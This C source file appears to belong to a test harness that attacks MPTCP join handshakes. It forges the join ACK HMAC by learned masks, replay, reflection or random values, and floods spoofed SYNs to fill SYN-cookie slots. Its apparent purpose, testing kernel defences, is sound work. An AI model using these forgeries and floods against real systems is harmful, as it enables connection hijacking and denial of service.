// SPDX-License-Identifier: GPL-2.0-only
/* Joins with an HMAC that is computed, learned, replayed, reflected or made up */
#include <stdio.h>
#include <string.h>

#include "attacker.h"

#define FLOOD_BURST 32
#define FLOOD_PORT 10000
#define FLOOD_NETWORK 0x0a400000U /* 10.64.0.0 */

static void learned_ack_mask(const struct recorded *join,
			     const struct connection *connection,
			     uint8_t mask[ACK_HMAC_LEN])
{
	uint8_t hmac[SHA256_DIGEST_LENGTH];
	int i;

	join_hmac(connection->keys[CLIENT], connection->keys[SERVER],
		  join->nonces[CLIENT], join->nonces[SERVER], hmac);
	for (i = 0; i < ACK_HMAC_LEN; i++)
		mask[i] = join->ack[i] ^ hmac[i];
}

/*
 * ack=real	 RFC 8684's
 * ack=learned	 with the mask of the recorded join
 * ack=kept	 with that of an older join, which was one of connection kept_of=N
 * ack=masked	 with the mask of an external key of the attacker's, key=HEX
 * ack=recorded	 what was on the wire
 * ack=reflected the server's own HMAC of this join
 * ack=random	 what who knows no keys can send
 */
static void choose_ack(const struct attempt *attempt,
		       const struct connection *target,
		       const struct connection *teacher,
		       uint8_t hmac[SHA256_DIGEST_LENGTH])
{
	const char *how = arg("ack", "real");
	const struct connection *kept_of = arg_connection("kept_of");
	uint8_t mask[OWN_ACK_MASK_LEN] = { 0 };
	int i;

	join_hmac(target->keys[CLIENT], target->keys[SERVER],
		  attempt->nonces[CLIENT], attempt->nonces[SERVER], hmac);
	if (!strcmp(how, "learned"))
		learned_ack_mask(&recorded, teacher, mask);
	else if (!strcmp(how, "kept") && kept_of)
		learned_ack_mask(&kept, kept_of, mask);
	else if (!strcmp(how, "masked"))
		own_ack_mask(attempt, target, mask);
	for (i = 0; i < ACK_HMAC_LEN; i++)
		hmac[i] ^= mask[i];
	if (!strcmp(how, "recorded")) {
		memcpy(hmac, recorded.ack, ACK_HMAC_LEN);
	} else if (!strcmp(how, "reflected")) {
		memset(hmac, 0, ACK_HMAC_LEN);
		put64(hmac, attempt->synack);
	} else if (!strcmp(how, "random")) {
		for (i = 0; i < ACK_HMAC_LEN; i += 4)
			put32(hmac + i, random32());
	}
}

/*
 * The same SYN from as many other addresses. They have one port and one sequence number, so
 * with SYN cookies the kernel keeps all of them in one slot, which is not that of @attempt;
 * or with slots=all numbers at random, and so in all of them.
 */
static void push_out(const struct attempt *attempt, unsigned int count)
{
	struct attempt copy = *attempt;
	struct frame frame;
	unsigned int nr;

	copy.from.port = htons(FLOOD_PORT);
	copy.seq = random32();
	copy.peer_seq = 0;
	for (nr = 0; nr < count; nr++) {
		copy.from.addr = htonl(FLOOD_NETWORK + nr);
		if (arg_is("slots", "all", "one"))
			copy.seq = random32();
		send_syn(&copy);
		if (nr % FLOOD_BURST == 0)
			while (pump(now_ms(), false, &frame))
				;
	}
}

/*
 * via=ADDR	 the ACK goes to that address, with a cookie of its listener
 * copies=N	 before the ACK the SYN is sent from N other addresses
 */
bool cmd_join(void)
{
	const struct connection *target, *teacher;
	in_addr_t via = arg_addr("via", "0.0.0.0");
	uint8_t hmac[SHA256_DIGEST_LENGTH];
	struct attempt attempt, other;
	uint32_t cookie = 0;

	if (!arg_connections(&target, &teacher))
		return false;
	start_attempt(&attempt, target, teacher, 0);
	if (via) {
		other = attempt;
		other.to.addr = via;
		if (!ask_for_cookie(&other, &cookie))
			return false;
	}
	if (!syn_answered(&attempt))
		return true;
	printf(" synack=%s", synack_hmac(target, &attempt) == attempt.synack ?
				     "plain" :
				     "masked");
	push_out(&attempt, arg_number("copies", "0"));
	choose_ack(&attempt, target, teacher, hmac);
	if (via) {
		attempt.to.addr = via;
		attempt.peer_seq = cookie + 1;
	}
	end_join(&attempt, target, hmac);
	return true;
}
